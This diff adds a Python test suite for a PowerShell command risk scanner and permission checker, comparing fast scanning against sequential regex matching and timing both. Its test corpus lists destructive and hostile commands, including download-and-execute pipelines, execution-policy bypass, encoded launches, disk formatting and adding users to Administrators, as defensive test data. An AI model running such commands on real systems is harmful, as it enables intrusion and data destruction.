@@ -0,0 +1,206 @@
+"""
+风险扫描器测试
+"""
+
+import re
+import time
+
+from src.interfaces.base import RiskLevel
+from src.security.permissions import PermissionChecker
+from src.security.risk_scanner import RiskScanner, extract_keyword
+from src.security.whitelist import CommandWhitelist
+
+
+# 扫描语料：安全命令、危险命令、管道、大小写变体和需要管理员权限的命令
+COMMAND_CORPUS = [
+    "Get-Date", "Get-Process", "Get-ChildItem -Path C:\\Users", "get-date", "GET-PROCESS",
+    "Get-Process | Stop-Process -Force", "Get-Process | Sort-Object CPU | Select-Object -First 5",
+    "Get-ChildItem | Remove-Item", "Get-Service |Restart-Service", "dir | Clear-Content",
+    "Remove-Item C:\\temp -Recurse -Force", "remove-item c:\\windows\\system32",
+    "Format-Volume -DriveLetter D", "format-volume C:", "Clear-Disk -Number 1",
+    "Stop-Computer", "Restart-Computer -Force", "Stop-Service -Name Spooler -Force",
+    "Set-ItemProperty -Path HKLM:\\Software\\Test -Name X -Value 1 -Force",
+    "Set-NetFirewallProfile -Profile Domain -Enabled False",
+    "Invoke-WebRequest http://example.com/a.ps1 | Invoke-Expression",
+    "wget http://example.com/a.ps1 | iex", "Invoke-WebRequest http://x -OutFile a.zip",
+    "powershell -ExecutionPolicy Bypass -File a.ps1", "powershell -ep bypass",
+    "Start-Process powershell -ArgumentList '-enc AAAA'",
+    "Stop-Process -Name explorer", "Stop-Process -Name winlogon -Force",
+    "Add-LocalGroupMember -Group Administrators -Member bob",
+    "Set-ExecutionPolicy Unrestricted", "Set-ExecutionPolicy RemoteSigned",
+    "Start-Service -Name Spooler", "Install-Module Pester -Scope AllUsers",
+    "New-Item -ItemType Directory test", "Copy-Item a.txt b.txt", "Write-Host hello",
+    "echo hello", "Unknown-Command", "ls", "", "   ", "Get-Content a.txt | Out-File b.txt",
+    "Invoke-Command -ComputerName srv -ScriptBlock { hostname }",
+    "Remove-ItemProperty -Path HKLM:\\Software\\Test -Name X",
+    "Get-ChildItem *.log | Remove-Item -Recurse", "Disable-NetAdapter -Name Ethernet",
+]
+
+
+def naive_whitelist_scan(whitelist, patterns, command):
+    """逐条匹配的参考实现，返回 (危险规则, 管道危险命令, 安全前缀, 确认前缀)"""
+    danger = None
+    for pattern, description, risk_level in patterns:
+        if pattern.search(command):
+            danger = (description, risk_level)
+            break
+    
+    pipeline_command = None
+    if '|' in command:
+        for part in command.split('|'):
+            part = part.strip()
+            for dangerous_cmd in whitelist.PIPELINE_DANGEROUS_COMMANDS:
+                if part.startswith(dangerous_cmd):
+                    pipeline_command = dangerous_cmd
+                    break
+            if pipeline_command:
+                break
+    
+    safe = any(command.startswith(prefix) for prefix in whitelist.SAFE_PREFIXES)
+    confirm = any(command.startswith(prefix) for prefix in whitelist.CONFIRMATION_PREFIXES)
+    return danger, pipeline_command, safe, confirm
+
+
+def compile_patterns(rules):
+    """逐条编译危险规则"""
+    return [
+        (re.compile(pattern, re.IGNORECASE), description, risk_level)
+        for pattern, description, risk_level in rules
+    ]
+
+
+def expand_corpus(commands):
+    """生成大小写变体和带前后缀的变体"""
+    variants = []
+    for command in commands:
+        variants.extend([
+            command, command.lower(), command.upper(),
+            f"Get-Date; {command}", f"{command} | Out-Null", f"x{command}y"
+        ])
+    return variants
+
+
+class TestExtractKeyword:
+    """关键词提取测试"""
+    
+    def test_longest_literal(self):
+        """测试提取最长的必需字面量"""
+        assert extract_keyword(r"Remove-Item.*-Recurse.*-Force") == "Remove-Item"
+        assert extract_keyword(r"Remove-Item.*C:\\Program Files") == "C:\\Program Files"
+        assert extract_keyword(r"Set-NetFirewallProfile.*-Enabled\s+False") == "Set-NetFirewallProfile"
+    
+    def test_no_keyword(self):
+        """测试没有必需字面量的规则"""
+        assert extract_keyword(r"^\w+$") is None
+        assert extract_keyword(r"(foo|bar)") is None
+        assert extract_keyword(r"[") is None
+
+
+class TestRiskScanner:
+    """风险扫描器测试"""
+    
+    def test_same_result_as_sequential_search(self):
+        """测试扫描结果与逐条匹配完全一致"""
+        whitelist = CommandWhitelist()
+        patterns = compile_patterns(CommandWhitelist.DANGEROUS_PATTERNS)
+        scanner = whitelist._scanner
+        
+        for command in expand_corpus(COMMAND_CORPUS):
+            scan = scanner.scan(command)
+            danger, pipeline_command, safe, confirm = naive_whitelist_scan(whitelist, patterns, command)
+            
+            assert scan.danger == danger, command
+            assert scan.pipeline_command == pipeline_command, command
+            assert scan.safe_prefix == safe, command
+            assert scan.confirmation_prefix == confirm, command
+    
+    def test_requires_admin_same_as_sequential_search(self):
+        """测试管理员权限判断与逐条匹配完全一致"""
+        checker = PermissionChecker()
+        patterns = [re.compile(p, re.IGNORECASE) for p in PermissionChecker.ADMIN_REQUIRED_PATTERNS]
+        
+        for command in expand_corpus(COMMAND_CORPUS):
+            expected = any(pattern.search(command) for pattern in patterns)
+            assert checker.requires_admin(command) == expected, command
+    
+    def test_first_match_wins(self):
+        """测试多条规则命中时使用排在前面的规则"""
+        scanner = RiskScanner(dangerous_rules=[
+            (r"Remove-Item.*-Force", "强制删除", RiskLevel.HIGH),
+            (r"Remove-Item", "删除", RiskLevel.MEDIUM),
+        ])
+        
+        assert scanner.first_danger("Remove-Item a -Force") == ("强制删除", RiskLevel.HIGH)
+        assert scanner.first_danger("Remove-Item a") == ("删除", RiskLevel.MEDIUM)
+        assert scanner.first_danger("Get-Item a") is None
+    
+    def test_prefix_keywords(self):
+        """测试互为前缀的关键词在同一位置同时命中"""
+        scanner = RiskScanner(dangerous_rules=[
+            (r"Stop-Service.*-Force", "强制停止服务", RiskLevel.HIGH),
+            (r"Stop-.*-Confirm:\$false", "跳过确认", RiskLevel.MEDIUM),
+        ])
+        
+        assert scanner.first_danger("Stop-Service x -Confirm:$false") == ("跳过确认", RiskLevel.MEDIUM)
+        assert scanner.first_danger("stop-service x -force") == ("强制停止服务", RiskLevel.HIGH)
+    
+    def test_rule_without_keyword(self):
+        """测试无法提取关键词的规则始终参与匹配"""
+        scanner = RiskScanner(dangerous_rules=[(r"^\S+$", "单个词", RiskLevel.LOW)])
+        
+        assert scanner.first_danger("hostname") == ("单个词", RiskLevel.LOW)
+        assert scanner.first_danger("Get-Date -Format o") is None
+    
+    def test_add_custom_rule(self):
+        """测试添加的自定义规则参与扫描"""
+        whitelist = CommandWhitelist({'dangerous_patterns': [r"Remove-Tenant"]})
+        whitelist.add_custom_rule(r"Delete-Everything", "删除所有内容", RiskLevel.CRITICAL)
+        
+        assert whitelist.get_risk_level("delete-everything now") == RiskLevel.CRITICAL
+        assert whitelist.is_dangerous("Remove-Tenant -Id 1")
+        assert not whitelist.validate("Remove-Tenant -Id 1").is_valid
+        assert whitelist.validate("Get-Date").risk_level == RiskLevel.SAFE
+    
+    def test_invalid_custom_pattern_skipped(self):
+        """测试无法编译的自定义模式被跳过"""
+        whitelist = CommandWhitelist({'dangerous_patterns': [r"Bad-[Pattern", r"Wipe-All"]})
+        
+        assert whitelist.is_dangerous("Wipe-All")
+        assert whitelist.validate("Get-Date").is_valid
+    
+    def test_custom_safe_prefixes(self):
+        """测试配置中的安全前缀"""
+        whitelist = CommandWhitelist({'safe_prefixes': ['hostname']})
+        
+        assert whitelist.get_risk_level("hostname") == RiskLevel.SAFE
+        assert whitelist.get_risk_level("hostname | Stop-Process") == RiskLevel.LOW
+    
+    def test_benchmark_scan(self):
+        """基准测试：一次扫描相对逐条匹配的加速比"""
+        whitelist = CommandWhitelist()
+        checker = PermissionChecker()
+        patterns = compile_patterns(CommandWhitelist.DANGEROUS_PATTERNS)
+        admin_patterns = [re.compile(p, re.IGNORECASE) for p in PermissionChecker.ADMIN_REQUIRED_PATTERNS]
+        corpus = expand_corpus(COMMAND_CORPUS)
+        rounds = 20
+        
+        start = time.perf_counter()
+        for _ in range(rounds):
+            for command in corpus:
+                naive_whitelist_scan(whitelist, patterns, command)
+                any(pattern.search(command) for pattern in admin_patterns)
+        naive_time = time.perf_counter() - start
+        
+        start = time.perf_counter()
+        for _ in range(rounds):
+            for command in corpus:
+                whitelist._scanner.scan(command)
+                checker._scanner.requires_admin(command)
+        scan_time = time.perf_counter() - start
+        
+        speedup = naive_time / scan_time
+        print(f"\n规则数: {whitelist._scanner.rule_count + checker._scanner.rule_count}, "
+              f"语料: {len(corpus)} 条 x {rounds} 轮")
+        print(f"逐条匹配: {naive_time * 1000:.1f}ms, 一次扫描: {scan_time * 1000:.1f}ms, 加速比: {speedup:.1f}x")
+        
+        assert scan_time < naive_time